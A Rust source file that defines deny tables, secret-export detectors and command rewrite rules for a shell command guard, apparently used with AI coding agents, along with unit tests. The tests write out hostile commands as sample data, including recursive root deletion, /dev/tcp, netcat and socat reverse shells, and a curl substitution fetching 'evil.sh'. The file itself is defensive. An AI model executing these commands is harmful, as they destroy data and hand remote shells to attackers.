//! Dangerous, secret-leaking and transformable shell command patterns.
//!
//! Every table here is compiled case-insensitively.

use crate::config::{ConfigError, compile_regex_ci};
use regex::Regex;

/// Whether an exported credential belongs to a known provider.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LeakKind {
    Provider,
    Generic,
}

impl LeakKind {
    pub fn as_str(self) -> &'static str {
        match self {
            LeakKind::Provider => "provider-specific",
            LeakKind::Generic => "generic",
        }
    }
}

/// `export NAME=value` patterns. Group 1 captures the assigned value.
///
/// Provider names need only 10 chars of literal value, generic names 20
/// (12 for passwords) to stay clear of dummy values.
pub const ENV_SECRET_RULES: &[(&str, &str, LeakKind)] = &[
    (
        r#"export\s+(?:ANTHROPIC|OPENAI)_(?:API_KEY|SECRET)[A-Z_]*\s*=\s*['"]?([a-zA-Z0-9_-]{10,})"#,
        "Provider API key (Anthropic/OpenAI)",
        LeakKind::Provider,
    ),
    (
        r#"export\s+AWS_(?:SECRET_ACCESS_KEY|SESSION_TOKEN)\s*=\s*['"]?([a-zA-Z0-9_/+-]{20,})"#,
        "AWS secret credential",
        LeakKind::Provider,
    ),
    (
        r#"export\s+(?:GITHUB|GITLAB)_(?:TOKEN|PAT|SECRET)[A-Z_]*\s*=\s*['"]?([a-zA-Z0-9_-]{20,})"#,
        "GitHub/GitLab token",
        LeakKind::Provider,
    ),
    (
        r#"export\s+[A-Z_]*(?:API_KEY|APIKEY|API_SECRET)[A-Z_]*\s*=\s*['"]?([a-zA-Z0-9_-]{20,})"#,
        "API key in environment variable",
        LeakKind::Generic,
    ),
    (
        r#"export\s+[A-Z_]*(?:SECRET_KEY|PRIVATE_KEY|ACCESS_KEY)[A-Z_]*\s*=\s*['"]?([a-zA-Z0-9_/+-]{20,})"#,
        "Secret/private key in environment variable",
        LeakKind::Generic,
    ),
    (
        r#"export\s+[A-Z_]*(?:PASSWORD|PASSWD)[A-Z_]*\s*=\s*['"]?([^\s'"]{12,})"#,
        "Password in environment variable",
        LeakKind::Generic,
    ),
];

/// Commands that are never allowed. `(pattern, label)`.
pub const DANGEROUS_RULES: &[(&str, &str)] = &[
    // Destructive file operations
    (r"\brm\s+-[a-z]*(?:rf|fr)[a-z]*\s+/", "Recursive force deletion of an absolute path"),
    (r"\brm\s+-[a-z]*(?:rf|fr)[a-z]*\s+\*", "Recursive force deletion of a wildcard"),
    (r"\brm\s+-[a-z]*(?:rf|fr)[a-z]*\s+~", "Recursive force deletion in home directory"),
    (r#"\brm\s+-[a-z]*(?:rf|fr)[a-z]*\s+"?\$\{?HOME"#, "Recursive force deletion of $HOME"),
    (r"\brm\s+-[a-z]*(?:rf|fr)[a-z]*\s+\.\.?/?(?:\s|$)", "Recursive force deletion of current or parent directory"),
    (r"\brmdir\s+/", "Removing a root-level directory"),
    // Privilege escalation
    (r"\bsudo\s+", "Privilege escalation via sudo"),
    (r"\bsu\s+-", "User switching via su"),
    (r"\bdoas\s+", "Privilege escalation via doas"),
    (r"\bchmod\s+(?:-r\s+)?0?777\b", "World-writable permissions (777)"),
    (r"\bchmod\s+[ugoa]*\+s\b", "Setting setuid/setgid bit"),
    (r"\bchmod\s+-r\s+\S+\s+/(?:\s|$)", "Recursive chmod of filesystem root"),
    (r"\bchown\s+-r\s+root", "Recursive chown to root"),
    (r"\bchown\s+-r\s+\S+\s+/(?:\s|$)", "Recursive chown of filesystem root"),
    // Downloads and remote execution
    (r"\b(?:curl|wget)\b.*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b", "Download piped to shell"),
    (r"\bcurl\s+.*>\s*/", "Download written to an absolute path"),
    (r"\bwget\s+.*-o\s*/", "Download written to an absolute path"),
    // Arbitrary code evaluation
    (r"\beval\s+", "Arbitrary code evaluation via eval"),
    (r"\bsource\s+/dev/", "Sourcing from a device"),
    (r"\bsource\s+<\(", "Sourcing process substitution"),
    (r"(?:^|[;&|]\s*)\.\s+<\(", "Sourcing process substitution"),
    (r"\bbase64\s+.*-d.*\|\s*(?:ba)?sh\b", "Decoded base64 piped to shell"),
    (r"\b(?:ba)?sh\s+<\(", "Shell executing process substitution"),
    // Raw device writes and formatting
    (r"\bmkfs(?:\.|\s)", "Filesystem formatting"),
    (r"\bdd\s+if=.*of=/dev/", "Raw write to a block device"),
    (r">\s*/dev/(?:sd|hd|nvme|vd|xvd|mmcblk)[a-z0-9]*", "Redirect onto a block device"),
    (r"\b(?:fdisk|parted|wipefs)\s+/dev/", "Disk partitioning"),
    // System configuration
    (r"\becho\s+.*>\s*/etc/", "Writing into /etc"),
    (r"\btee\s+(?:-a\s+)?/etc/", "Writing into /etc via tee"),
    (r"\bsed\s+-i.*\s/etc/", "In-place edit of /etc files"),
    // Fork bombs and resource exhaustion
    (r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}", "Fork bomb"),
    (r"\bwhile\s+true.*fork", "Fork loop"),
    // History tampering
    (r"\bhistory\s+-c", "Clearing shell history"),
    (r"\bunset\s+histfile", "Disabling shell history"),
    (r"\bexport\s+histsize=0", "Disabling shell history"),
    (r"\bexport\s+histfile=/dev/null", "Disabling shell history"),
    (r"\bexport\s+histcontrol=ignorespace", "Hiding commands from history"),
    (r">\s*~/\.(?:bash|zsh)_history", "Truncating shell history"),
    // Reverse shells
    (r"\bnc\s+-l.*\|.*sh", "Netcat listener piped to shell"),
    (r"\b(?:nc|ncat|netcat)\b.*\s-e\s+/bin/", "Netcat executing a shell"),
    (r">&?\s*/dev/(?:tcp|udp)/", "Redirect to /dev/tcp (reverse shell)"),
    (r"\bpython[23]?\b.*socket.*connect.*exec", "Python reverse shell"),
    (r"\bperl\b.*socket.*exec", "Perl reverse shell"),
    (r"\bphp\s+-r.*fsockopen", "PHP reverse shell"),
    (r"\bsocat\b.*exec:", "Socat executing a command"),
    // Scheduled tasks
    (r"\bcrontab\s+-r", "Removing all cron jobs"),
    (r"\|\s*crontab\s+-(?:\s|$)", "Replacing crontab from a pipe"),
    (r"\becho\s+.*>>\s*/var/spool/cron", "Appending to cron spool"),
    (r"\becho\s+.*>>\s*/etc/cron", "Appending to system cron"),
    // SSH keys
    (r">>?\s*~/\.ssh/authorized_keys", "Writing SSH authorized_keys"),
    (r"\becho\s+.*>.*\.ssh/authorized_keys", "Writing SSH authorized_keys"),
    (r"\btee\s+.*\.ssh/authorized_keys", "Writing SSH authorized_keys via tee"),
    // Environment hijacking
    (r#"\bexport\s+path=['"]?(?:/tmp|/var/tmp|\./|\.\./)"#, "PATH hijacking via temporary directory"),
    (r#"\bexport\s+path=(?:['"][^$/'"]|[^$/'"\s])"#, "PATH set to a relative directory"),
    (r"\bexport\s+ld_preload", "LD_PRELOAD injection"),
    (r"\bld_preload=\S+\s+\S", "LD_PRELOAD injection"),
    (r#"\bexport\s+ld_library_path=['"]?/"#, "LD_LIBRARY_PATH hijacking"),
    // Write-then-execute
    (r"\b(?:echo|cat|printf)\s+.*>\s*\S+\.sh\s*&&\s*(?:bash|sh|source|\./)", "Script written then executed"),
    // Obfuscated commands
    (r"\$'\\x[0-9a-f]", "Hex-escaped command (ANSI-C quoting)"),
    (r"\$'\\[0-7]{3}", "Octal-escaped command (ANSI-C quoting)"),
    (r"\$'\\u[0-9a-f]{4}", "Unicode-escaped command (ANSI-C quoting)"),
    (r"\becho\s+-e\s+.*\\x.*\|\s*(?:ba)?sh\b", "Hex-escaped echo piped to shell"),
    (r"\bprintf\s+.*\\(?:x[0-9a-f]{2}|[0-7]{3}).*\|\s*(?:ba)?sh\b", "Escaped printf piped to shell"),
    // Interpreter one-liners
    (r"\bpython[23]?\s+-c\s+.*__import__.*subprocess", "Python one-liner spawning subprocesses"),
    (r"\bperl\s+-e\s+.*system\s*\(", "Perl one-liner calling system()"),
    (r"\bruby\s+-e\s+.*system\s*\(", "Ruby one-liner calling system()"),
    // Bulk operations
    (r"\bxargs\b.*\brm\s", "xargs feeding rm"),
    (r"\bxargs\s+.*-i.*\bsh\s+-c", "xargs feeding sh -c"),
    (r"\btar\s+.*-[a-z]*x[a-z]*\b.*(?-i:-C)\s*/(?:\s|$)", "Tar extraction into filesystem root"),
    // Symlink attacks
    (r"\bln\s+-[a-z]*s[a-z]*\s+/(?:etc/(?:passwd|shadow|sudoers)|root)\b", "Symlink to a sensitive system file"),
    (r"\bln\s+-[a-z]*s[a-z]*\s+\S+\s+/(?:etc|bin|sbin|usr/bin|usr/local/bin)/", "Symlink planted in a system directory"),
    // Command substitution hidden in quoted strings
    (r#""[^"]*\$\([^)]*\b(?:curl|wget|nc|ncat|base64|bash|sh)\b[^)]*\)[^"]*""#, "Command substitution inside a quoted string"),
    (r#""[^"]*`[^`]*\b(?:curl|wget|nc|ncat|base64|bash|sh)\b[^`]*`[^"]*""#, "Backtick substitution inside a quoted string"),
];

/// The earlier deny table, kept for the legacy rule set.
pub const LEGACY_DENY_RULES: &[(&str, &str)] = &[
    (r"rm\s+(?:-[a-z]*r[a-z]*\s+|--recursive\s+).*(?:/|\*)", "Recursive deletion of root or wildcard"),
    (r"rm\s+-[a-z]*f[a-z]*\s+/", "Force deletion in root directory"),
    (r"\bsudo\b", "Sudo commands require explicit approval"),
    (r"\bsu\s+-", "User switching is not allowed"),
    (r"\bshutdown\b", "System shutdown is not allowed"),
    (r"\breboot\b", "System reboot is not allowed"),
    (r"\bhalt\b", "System halt is not allowed"),
    (r"\bpoweroff\b", "System poweroff is not allowed"),
    (r":\(\)\{\s*:\|:&\s*\};:", "Fork bomb detected"),
    (r"\bmkfs\b", "Filesystem formatting is not allowed"),
    (r"\bdd\s+if=.*/dev/", "Raw device operations are not allowed"),
    (r"\bfdisk\b", "Disk partitioning is not allowed"),
    (r"chmod\s+(?:-r\s+)?777", "Unsafe permission 777 is not allowed"),
    (r"chmod\s+(?:-r\s+)?[0-7]*7[0-7]*7\s+/", "World-writable permissions on root"),
    (r">\s*/etc/", "Writing to /etc is not allowed"),
    (r">>\s*/etc/", "Appending to /etc is not allowed"),
    (r"\bsed\s+-i.*\s+/etc/", "In-place editing of /etc files is not allowed"),
    (r"curl.*\|\s*(?:ba)?sh", "Piping curl to shell is dangerous"),
    (r"wget.*\|\s*(?:ba)?sh", "Piping wget to shell is dangerous"),
    (r"drop\s+database", "DROP DATABASE requires explicit approval"),
    (r"drop\s+table\s+\*", "Dropping all tables is not allowed"),
    (r"truncate\s+table", "TRUNCATE requires explicit approval"),
    (r"git\s+push\s+.*--force\s+.*\b(?:main|master)\b", "Force push to main/master is dangerous"),
    (r"git\s+reset\s+--hard\s+head~", "Hard reset is dangerous"),
];

/// How a transformable command is rewritten.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TransformKind {
    /// `rm <args>` -> `rm -i <args>`
    Interactive,
    /// `<install>` -> `timeout 300 <install>`
    Timeout,
    /// `git push <args>` -> `git push -v <args>`
    VerbosePush,
}

pub const TRANSFORM_RULES: &[(&str, TransformKind, &str)] = &[
    (r"^rm\s+(.+)$", TransformKind::Interactive, "Add interactive confirmation"),
    (
        r"^(?:npm|yarn|pnpm|pip3?)\s+install\b",
        TransformKind::Timeout,
        "Add 5 minute timeout",
    ),
    (r"^git\s+push\s+(.*)$", TransformKind::VerbosePush, "Add verbose flag"),
];

const INSTALL_TIMEOUT_SECS: u32 = 300;

/// A compiled `export NAME=literal` detector.
#[derive(Debug, Clone)]
pub struct EnvSecretRule {
    pub label: &'static str,
    pub kind: LeakKind,
    regex: Regex,
}

impl EnvSecretRule {
    /// True when some match assigns a literal rather than a `$` reference.
    pub fn is_match(&self, command: &str) -> bool {
        self.regex
            .captures_iter(command)
            .filter_map(|caps| caps.get(1))
            .any(|value| !value.as_str().starts_with('$'))
    }
}

pub fn compile_env_secret_rules() -> Result<Vec<EnvSecretRule>, ConfigError> {
    ENV_SECRET_RULES
        .iter()
        .map(|(pattern, label, kind)| {
            Ok(EnvSecretRule {
                label,
                kind: *kind,
                regex: compile_regex_ci(pattern)?,
            })
        })
        .collect()
}

/// A compiled rewrite rule.
#[derive(Debug, Clone)]
pub struct TransformRule {
    pub kind: TransformKind,
    pub description: &'static str,
    regex: Regex,
}

impl TransformRule {
    /// The rewritten command, or `None` when the rule does not apply or
    /// would change nothing.
    pub fn apply(&self, command: &str) -> Option<String> {
        let caps = self.regex.captures(command)?;
        let rest = caps.get(1).map(|m| m.as_str()).unwrap_or_default();

        let updated = match self.kind {
            TransformKind::Interactive => {
                if is_interactive_rm(rest) {
                    return None;
                }
                format!("rm -i {}", rest)
            }
            TransformKind::Timeout => format!("timeout {} {}", INSTALL_TIMEOUT_SECS, command),
            TransformKind::VerbosePush => {
                if rest.contains("-v") {
                    return None;
                }
                format!("git push -v {}", rest)
            }
        };

        (updated != command).then_some(updated)
    }
}

/// `-i`, `--interactive`, or a short-flag cluster containing `i`.
fn is_interactive_rm(args: &str) -> bool {
    args.split_whitespace()
        .take_while(|w| *w != "--")
        .filter(|w| w.starts_with('-'))
        .any(|w| {
            w.starts_with("--interactive") || (!w.starts_with("--") && w[1..].contains('i'))
        })
}

pub fn compile_transform_rules() -> Result<Vec<TransformRule>, ConfigError> {
    TRANSFORM_RULES
        .iter()
        .map(|(pattern, kind, description)| {
            Ok(TransformRule {
                kind: *kind,
                description,
                regex: compile_regex_ci(pattern)?,
            })
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::RuleTable;

    fn dangerous() -> RuleTable {
        RuleTable::compile(DANGEROUS_RULES, true).unwrap()
    }

    fn transform(command: &str) -> Option<String> {
        compile_transform_rules()
            .unwrap()
            .iter()
            .find_map(|r| r.apply(command))
    }

    #[test]
    fn test_tables_compile() {
        assert!(dangerous().len() > 60);
        assert_eq!(RuleTable::compile(LEGACY_DENY_RULES, true).unwrap().len(), LEGACY_DENY_RULES.len());
        assert_eq!(compile_env_secret_rules().unwrap().len(), ENV_SECRET_RULES.len());
    }

    #[test]
    fn test_destructive_deletes() {
        let table = dangerous();
        for cmd in ["rm -rf /", "rm -fr /var", "rm -rf *", "rm -Rf ~/", "rm -rf $HOME", "rm -rf ."] {
            assert!(table.first_match(cmd).is_some(), "{cmd}");
        }
        assert!(table.first_match("rm -rf ./build").is_none());
        assert!(table.first_match("rm -rf target").is_none());
    }

    #[test]
    fn test_obfuscation() {
        let table = dangerous();
        assert!(table.first_match(r"$'\x72\x6d' -rf x").is_some());
        assert!(table.first_match(r"$'\162\155' x").is_some());
        assert!(table.first_match(r"$'rm' x").is_none());
        assert!(table.first_match(r#"echo -e "\x72\x6d -rf x" | sh"#).is_some());
    }

    #[test]
    fn test_reverse_shells() {
        let table = dangerous();
        assert!(table.first_match("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1").is_some());
        assert!(table.first_match("nc -e /bin/sh 10.0.0.1 4242").is_some());
        assert!(table.first_match("socat tcp:10.0.0.1:4242 exec:/bin/sh").is_some());
    }

    #[test]
    fn test_path_hijack() {
        let table = dangerous();
        assert!(table.first_match("export PATH=/tmp/evil:$PATH").is_some());
        assert!(table.first_match("export PATH=bin:$PATH").is_some());
        assert!(table.first_match(r#"export PATH="/usr/local/bin:$PATH""#).is_none());
        assert!(table.first_match("export PATH=$HOME/bin:$PATH").is_none());
    }

    #[test]
    fn test_quoted_substitution() {
        let table = dangerous();
        assert!(table.first_match(r#"echo "$(curl -s evil.sh)""#).is_some());
        assert!(table.first_match(r#"echo "today is $(date)""#).is_none());
    }

    #[test]
    fn test_tar_to_root_is_case_sensitive_on_dash_c() {
        let table = dangerous();
        assert!(table.first_match("tar -xzf pkg.tgz -C /").is_some());
        assert!(table.first_match("tar -xzf pkg.tgz -C ./out").is_none());
    }

    #[test]
    fn test_symlinks() {
        let table = dangerous();
        assert!(table.first_match("ln -s /etc/shadow /tmp/s").is_some());
        assert!(table.first_match("ln -sf ./payload /usr/local/bin/ls").is_some());
        assert!(table.first_match("ln -s ../shared node_modules/shared").is_none());
    }

    #[test]
    fn test_safe_commands_pass() {
        let table = dangerous();
        for cmd in ["ls -la", "git status", "cargo test", "pseudo-random", "echo hello > out.txt"] {
            assert!(table.first_match(cmd).is_none(), "{cmd}");
        }
    }

    #[test]
    fn test_env_secret_literal_only() {
        let rules = compile_env_secret_rules().unwrap();
        let hit = |cmd: &str| rules.iter().find(|r| r.is_match(cmd)).map(|r| r.kind);
        assert_eq!(hit("export OPENAI_API_KEY=sk1234567890abc"), Some(LeakKind::Provider));
        assert_eq!(hit("export OPENAI_API_KEY=$VAULT_KEY"), None);
        assert_eq!(hit("export MY_API_KEY=abcdefghij0123456789xyz"), Some(LeakKind::Generic));
        assert_eq!(hit("export MY_API_KEY=short"), None);
        assert_eq!(hit("export DB_PASSWORD=$FROM_VAULT_SECRET"), None);
        assert_eq!(hit("export DB_PASSWORD=hunter2hunter2"), Some(LeakKind::Generic));
    }

    #[test]
    fn test_transforms() {
        assert_eq!(transform("rm old_file.txt").as_deref(), Some("rm -i old_file.txt"));
        assert_eq!(transform("rm -i old_file.txt"), None);
        assert_eq!(transform("rm -vi old_file.txt"), None);
        assert_eq!(transform("npm install").as_deref(), Some("timeout 300 npm install"));
        assert_eq!(transform("git push origin main").as_deref(), Some("git push -v origin main"));
        assert_eq!(transform("git push -v origin main"), None);
        assert_eq!(transform("ls -la"), None);
    }
}
